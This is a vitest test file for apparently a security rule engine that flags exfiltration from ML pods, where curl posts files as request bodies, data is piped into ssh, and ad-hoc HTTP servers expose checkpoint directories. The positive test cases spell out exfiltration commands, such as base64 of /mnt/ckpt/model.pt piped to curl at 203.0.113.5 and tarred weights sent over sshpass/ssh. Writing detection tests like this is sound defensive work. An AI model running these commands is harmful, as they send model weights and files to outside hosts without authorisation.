/**
 * Exfiltration through an exec, through the shipped rule set and the real engine: curl sending a
 * file or its stdin as the request body, data piped into ssh (MLS-EXFIL-014) and a pod made to serve its files
 * (MLS-EXFIL-016). Plain API posts, header files and servers that are not started stay quiet.
 */
import { describe, expect, it } from 'vitest';
import { execRuleIds } from './exec-events.test-support.js';

const U = 'http://203.0.113.5/up';
const sh = (line: string): string[] => ['sh', '-c', line];

describe('curl with a file as the body (MLS-EXFIL-014)', () => {
  it('alerts on -d @file, @- from a pipe, --data=@, --json @ and --data-urlencode @', () => {
    for (const argv of [
      sh(`base64 /mnt/ckpt/model.pt | curl -d @- ${U}`),
      ['curl', '-s', '-d', '@/mnt/ckpt/tokenizer.json', U],
      ['curl', '-d@/mnt/ckpt/tokenizer.json', U],
      ['curl', '--data=@/mnt/ckpt/config.json', U],
      ['curl', '--json', '@/tmp/state.json', U],
      ['curl', '--data-urlencode', '@/tmp/w.b64', U],
      sh(`xxd -p /mnt/ckpt/model.pt | curl -X POST --data-ascii @- ${U}`),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
  });

  it('alerts on data piped into ssh, and not on ssh running a command', () => {
    for (const argv of [
      sh(`tar czf - /mnt/ckpt/llama | ssh -p 2222 u@203.0.113.5 'cat > l.tgz'`),
      sh(`cat /mnt/ckpt/model.pt | sshpass -p x ssh u@203.0.113.5 "dd of=m.pt"`),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
    expect(execRuleIds(['ssh', 'bastion.corp.example', 'uptime'])).not.toContain('MLS-EXFIL-014');
    expect(execRuleIds(sh('ssh bastion.corp.example uptime | tee /tmp/up'))).not.toContain('MLS-EXFIL-014');
  });

  it('leaves a plain form post, a header file and a fail-quietly download', () => {
    for (const argv of [
      ['curl', '-d', 'status=ok', 'http://collector.ml-infra.svc/heartbeat'],
      ['curl', '-H', '@/etc/hdrs', 'http://collector.ml-infra.svc/'],
      ['curl', '-fsS', 'http://collector.ml-infra.svc/healthz'],
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-014');
  });
});

describe('a pod made to serve its files (MLS-EXFIL-016)', () => {
  it('escalates http.server, SimpleHTTPServer, php -S, http-server, busybox httpd, ruby un', () => {
    for (const argv of [
      ['python3', '-m', 'http.server', '8000', '--directory', '/mnt/ckpt'],
      sh('cd /mnt/ckpt && nohup python -m SimpleHTTPServer 8080 >/dev/null 2>&1 &'),
      ['php', '-S', '0.0.0.0:8000', '-t', '/mnt/ckpt'],
      sh('npx --yes http-server /mnt/ckpt -p 9000'),
      ['busybox', 'httpd', '-f', '-p', '8000', '-h', '/mnt/ckpt'],
      sh('cd /mnt/ckpt; ruby -run -e httpd . -p 8000'),
      ['python3', '-m', 'uploadserver', '9000'],
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-016');
  });

  it('leaves a client, php -s (syntax highlight) and a Python module of another name', () => {
    for (const argv of [
      ['python3', '-c', 'import http.client; print(1)'],
      ['php', '-s', 'index.php'],
      ['python3', '-m', 'torch.distributed.run', 'train.py'],
      ['curl', 'http://localhost:8000/'],
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-016');
  });
});
